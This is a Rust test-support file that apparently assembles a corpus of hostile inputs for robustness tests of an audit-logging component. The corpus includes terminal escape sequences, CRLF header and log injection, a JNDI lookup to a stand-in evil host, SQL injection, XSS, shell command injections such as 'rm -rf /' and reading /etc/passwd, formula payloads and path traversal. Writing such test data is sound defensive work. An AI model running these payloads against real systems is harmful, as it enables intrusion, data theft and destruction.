//! What nobody but an attacker sends.

use portcullis::vocab::limits::{AUDIT_FIELD_BYTES_MAX, AUDIT_ID_BYTES_MAX, AUDIT_NAME_BYTES_MAX, AUDIT_URI_BYTES_MAX};

/// The most that these tests let a message have.
pub(super) const BODY_BYTES_MAX: usize = 128 * 1024;

/// One of them.
#[derive(Clone, Debug)]
pub(super) struct Hostile {
    pub(super) family: &'static str,
    /// As it is.
    pub(super) bytes: Vec<u8>,
    /// As a token of JSON, which need not be valid.
    pub(super) token: Vec<u8>,
    /// What the token means, if it is valid.
    pub(super) text: Option<String>,
}

impl Hostile {
    /// What stands in a header line as one value: HTTP hands it over. Space at its ends is not part of it.
    pub(super) fn fits_a_header(&self) -> bool {
        self.bytes.iter().all(|byte| matches!(byte, b'\t' | 0x20..=0x7e | 0x80..)) && self.bytes.len() < 16 * 1024
    }
}

fn of_text(family: &'static str, text: String) -> Hostile {
    let token = serde_json::to_vec(&text).unwrap();
    Hostile { family, bytes: text.clone().into_bytes(), token, text: Some(text) }
}

/// Bytes that are put between quotes as they are.
fn of_bytes(family: &'static str, bytes: &[u8]) -> Hostile {
    let token = [b"\"", bytes, b"\""].concat();
    let text = serde_json::from_slice(&token).ok();
    Hostile { family, bytes: bytes.to_vec(), token, text }
}

/// A token of JSON, and the bytes that mean about the same elsewhere.
fn of_token(family: &'static str, token: &str, bytes: &[u8]) -> Hostile {
    Hostile { family, bytes: bytes.to_vec(), token: token.into(), text: serde_json::from_str(token).ok() }
}

fn single(code: u32) -> String {
    char::from_u32(code).unwrap().to_string()
}

/// All of them, each once.
pub(super) fn all() -> Vec<Hostile> {
    let mut all = Vec::new();
    characters(&mut all);
    all.extend(TERMINAL.iter().map(|text| of_text("terminal", (*text).to_owned())));
    all.extend(LINES.iter().map(|text| of_text("lines", (*text).to_owned())));
    all.extend(INJECTIONS.iter().map(|text| of_text("injection", (*text).to_owned())));
    all.extend(INVALID.iter().map(|bytes| of_bytes("invalid UTF-8", bytes)));
    all.extend(TOKENS.iter().map(|(token, bytes)| of_token("tokens", token, bytes)));
    huge(&mut all);
    let mut known = std::collections::BTreeSet::new();
    all.retain(|hostile| known.insert((hostile.token.clone(), hostile.bytes.clone())));
    assert!(all.len() >= 200, "{}", all.len());
    all
}

fn characters(all: &mut Vec<Hostile>) {
    for code in 0..0x20 {
        all.push(of_text("C0", format!("a{}b", single(code))));
    }
    all.push(of_text("DEL", "a\u{7f}b".into()));
    for code in (0x80..0xa0).step_by(3).chain([0x85, 0x9b, 0x9d]) {
        all.push(of_text("C1", format!("a{}b", single(code))));
    }
    for byte in [0x00, 0x07, 0x08, b'\t', b'\n', b'\r', 0x1b, 0x1f, 0x80, 0x85, 0x9b, 0x9d] {
        all.push(of_bytes("bytes", &[b'x', byte, b'y']));
    }
    let marks = [0x61c, 0x200e, 0x200f].into_iter().chain(0x202a..=0x202e).chain(0x2066..=0x2069);
    all.extend(marks.map(|code| of_text("directions", format!("{}gnp.exe{}", single(code), single(code)))));
    let hidden = (0x200b..=0x200d).chain(0x2060..=0x2065).chain(0x206a..=0x206f).chain([0xfeff, 0xfff9, 0xfffa, 0xfffb]);
    let ignored = [0xad, 0x34f, 0x115f, 0x17b4, 0x180e, 0x3164, 0xffa0, 0xfe00, 0x1d173, 0xe0100, 0xe01ef];
    all.extend(hidden.chain(ignored).map(|code| of_text("hidden", format!("ad{}min", single(code)))));
    let separators = [0x2028, 0x2029].map(|code| of_text("separators", format!("one{}two", single(code))));
    all.extend(separators);
    let nothing = [0xfdd0, 0xfdef, 0xfffe, 0xffff, 0x1_fffe, 0x10_ffff, 0xe000, 0xf_0000];
    all.extend(nothing.map(|code| of_text("no characters", format!("a{}b", single(code)))));
    let tags: String = "rm -rf".chars().filter_map(|c| char::from_u32(0xe0000 + u32::from(c))).collect();
    all.push(of_text("tags", format!("harmless{tags}\u{e007f}")));
    all.push(of_text("tags", "\u{e0001}x".into()));
    all.push(of_text("combining", format!("a{}", "\u{301}\u{489}".repeat(200))));
    all.push(of_text("combining", "\u{301}starts with a mark".into()));
    all.push(of_text("wide", "﷽𒐫🏴‍☠️👨‍👩‍👧‍👦".into()));
    all.push(of_text("alike", "аdmin".into()));
    all.push(of_text("alike", "ａｄｍｉｎ".into()));
}

/// What terminals obey.
const TERMINAL: &[&str] = &[
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{1b}[1A\u{1b}[2K",
    "\u{1b}[?1049h",
    "\u{1b}[6n",
    "\u{1b}[8mhidden\u{1b}[28m",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]2;title\u{1b}\\",
    "\u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;ZXZpbA==\u{7}",
    "\u{1b}]1337;File=inline=1:AAAA\u{7}",
    "\u{1b}P$q\"p\u{1b}\\",
    "\u{1b}_Gf=100;AAAA\u{1b}\\",
    "\u{1b}^privacy\u{1b}\\",
    "\u{1b}c",
    "\u{1b}(0lqqk\u{1b}(B",
    "\u{9b}31mred",
    "\u{9d}0;title\u{9c}",
    "\u{90}q#0;2;0;0;0\u{9c}",
    "ok\u{8}\u{8}no",
    "fine\rBAD ",
    "\u{7}\u{7}\u{7}",
    "\u{e}\u{f}",
];

/// What ends lines and begins others.
const LINES: &[&str] = &[
    "\n",
    "\r",
    "\r\n",
    "\r\n\r\n",
    "a\nb",
    "a\r\nSet-Cookie: a=b",
    "a\r\nX-Injected: yes",
    "a\u{85}b",
    "a\u{b}b\u{c}c",
    "\n{\"v\":1,\"seq\":1,\"kind\":\"outcome\"}\n",
    "}\n{\"seq\":1",
    "\"}\n{\"v\":1,\"seq\":999999,\"kind\":\"checkpoint\"}",
    "\n2026-01-01T00:00:00Z ERROR portcullis: owned",
    "\u{2028}2026-01-01T00:00:00Z  INFO portcullis: owned",
    "\r\nlevel=error msg=\"owned\"",
    "\n\n\n\n",
    "data: {}\n\nevent: message\ndata: x\n\n",
    ": comment\nid: 1\nretry: 1\n",
    "\n# TYPE portcullis_fake counter\nportcullis_fake 1\n",
    "\n<14>1 2026-01-01T00:00:00Z host app - - - owned",
    "\nCEF:0|Evil|Evil|1|1|owned|10|",
];

/// What others would take for something of theirs.
const INJECTIONS: &[&str] = &[
    "\",\"hash\":\"0000000000000000000000000000000000000000000000000000000000000000\"}",
    "\",\"kind\":\"checkpoint\",\"x\":\"",
    ",\"kind\":\"intent",
    "\"",
    "\\",
    "\\\"",
    "\\\\\"}",
    "\\u0000",
    "\\u001b[2J",
    "...[cut]",
    "\"...[cut]",
    "{\"a\":1}",
    "[1,2",
    "null",
    "true",
    "NaN",
    "Infinity",
    "1e999",
    "-0",
    "%s%s%s%n",
    "%x%x%x%x",
    "{}{:?}{0}",
    "${jndi:ldap://evil.example/a}",
    "${env:HOME}",
    "{{7*7}}",
    "#{7*7}",
    "<%= 7*7 %>",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "]]><!--",
    "&lt;&#27;",
    "' OR '1'='1",
    "'; DROP TABLE audit; --",
    "`id`",
    "$(id)",
    "; rm -rf / #",
    "| cat /etc/passwd",
    "=HYPERLINK(\"http://evil.example\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1-1",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "%2e%2e%2f%00",
    "file:///etc/shadow",
    "//evil.example/%0d%0aX: y",
    "a\"} 1\nb{c=\"d",
    "x\",evil=\"y",
    "le=\"+Inf\"} 1e9",
    "<0>kernel",
    "<34>1 - - - - - -",
    "a|b\\|c=d",
    "] [evil@0 a=\"b\"",
    "sub#sub",
    "https://idp.example.com#alice",
    "up__echo",
    "__",
    "*",
    "__proto__",
    "constructor",
    "Bearer x",
    "Basic YTpi",
    "00-00000000000000000000000000000000-0000000000000000-00",
    "2026-07-28",
    "initialize",
    " leading and trailing ",
    "",
];

/// What is no text.
const INVALID: &[&[u8]] = &[
    b"\xff",
    b"\xfe\xff",
    b"a\xffb",
    b"\xc0\x80",
    b"\xc0\xaf",
    b"\xc1\x9b",
    b"\xe0\x80\x9b",
    b"\xe0\x80\x8a",
    b"\xf0\x80\x80\x8a",
    b"\xc2",
    b"\xe2\x80",
    b"\xe2\x80\xae\xe2\x80",
    b"\xf0\x9f\x92",
    b"\xed\xa0\x80",
    b"\xed\xb0\x80",
    b"\xed\xa0\xbd\xed\xb8\x80",
    b"\xf4\x90\x80\x80",
    b"\xf8\x88\x80\x80\x80",
    b"\xfc\x84\x80\x80\x80\x80",
    b"\x80\x80\x80",
    b"\xef\xbb\xbf",
    b"\xff\x1b[2J\n",
];

/// What parsers of JSON differ about.
const TOKENS: &[(&str, &[u8])] = &[
    (r#""\ud800""#, b"\xed\xa0\x81"),
    (r#""\udfff""#, b"\xed\xbf\xbf"),
    (r#""\udc00\ud800""#, b"\xed\xb0\x80\xed\xa0\x80"),
    (r#""\ud83d""#, b"\xed\xa0\xbd"),
    (r#""\u0000""#, b"\0"),
    (r#""\u001b[2J""#, b"\x1b[2J"),
    (r#""\u202e""#, b"\xe2\x80\xae"),
    (r#""\uFFFF""#, b"\xef\xbf\xbf"),
    (r#""\x1b""#, b"\\x1b"),
    (r#""\u00""#, b"\\u00"),
    ("NaN", b"NaN\t"),
    ("1e999", b"1e999\t"),
    ("-1E+400", b"-1E+400"),
    ("123456789012345678901234567890", b"123456789012345678901234567890"),
    ("0.1000000000000000055511151231257827", b"0.10000000000000000555"),
    ("{\"a\":1,\"a\":2}", b"{\"a\":1,\"a\":2}"),
    ("{\"a\" \t\n:\r\n\"b\u{9b}\"}", b"{ }"),
    ("[\n\n1\n,\u{2028}]", b"[ ]"),
    ("[]\n}\n{\"seq\":1}", b"}{"),
    ("'single'", b"'single'"),
    ("", b"\t"),
    ("/* */1", b"/* */"),
];

/// Long ones: at the bounds of the record, over them, and over those of a message.
fn huge(all: &mut Vec<Hostile>) {
    for bound in [AUDIT_ID_BYTES_MAX, AUDIT_NAME_BYTES_MAX, AUDIT_FIELD_BYTES_MAX, AUDIT_URI_BYTES_MAX + 1, 8 * 1024] {
        for more in [0, 1] {
            // The cut would go through a character, or through what is written for one.
            all.push(of_text("long", format!("{}\u{1b}\u{202e}é🦀\u{9b}", "x".repeat(bound - 9 + more))));
        }
        all.push(of_text("long", "\u{1b}".repeat(bound + 2)));
    }
    all.push(of_text("huge", "h".repeat(64 * 1024)));
    all.push(of_text("huge", "\n".repeat(20 * 1024)));
    all.push(of_text("huge", "\u{202e}".repeat(30 * 1024)));
    all.push(of_text("huge", "z".repeat(BODY_BYTES_MAX + 1)));
    all.push(of_token("deep", &"[".repeat(10_000), b"[[[["));
    all.push(of_token("deep", &format!("{}1{}", "[".repeat(60), "]".repeat(60)), b"[[1]]"));
}
